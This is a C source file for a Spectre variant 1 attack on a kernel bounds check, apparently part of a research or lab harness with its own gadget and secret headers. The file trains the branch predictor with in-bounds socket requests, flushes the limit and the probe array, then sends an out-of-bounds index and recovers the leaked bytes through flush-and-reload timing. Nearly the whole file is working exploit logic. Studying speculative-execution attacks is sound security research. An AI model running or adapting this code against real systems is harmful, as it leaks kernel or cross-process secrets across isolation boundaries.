/*
 * Spectre, variant 1 (Kocher et al., 2019), on a check in the kernel: requests that are within the
 * limit train the branch, then the limit is flushed, and a request far out of bounds reads the
 * secret while the branch waits for the limit.
 */
#include "attack.h"

#include <sys/socket.h>

#include "gadget.h"
#include "secret.h"

enum { TRAININGS = 6 };

static const uint8_t *array;
static int requests;

static void request(uint64_t index)
{
	struct gadget_request packet = { .value = index };

	if (send(requests, &packet, sizeof(packet), 0) != sizeof(packet))
		err(1, "request");
}

static int sample(int index)
{
	const uint8_t *probe = array + SHARED_PROBE;

	for (int i = 0; i < TRAININGS; i++)
		request(i);
	use_secret(index);
	flush_probe(probe);
	flush(array + SHARED_LIMIT);
	memory_fence();
	request(options.address + index - options.table);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address || !options.table)
		errx(2, "expected --address and --table");
	open_secret();
	array = map_gadget(options.gadget);
	requests = connect_to(options.requests, SOCK_DGRAM);
	calibrate();
	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
	return 0;
}
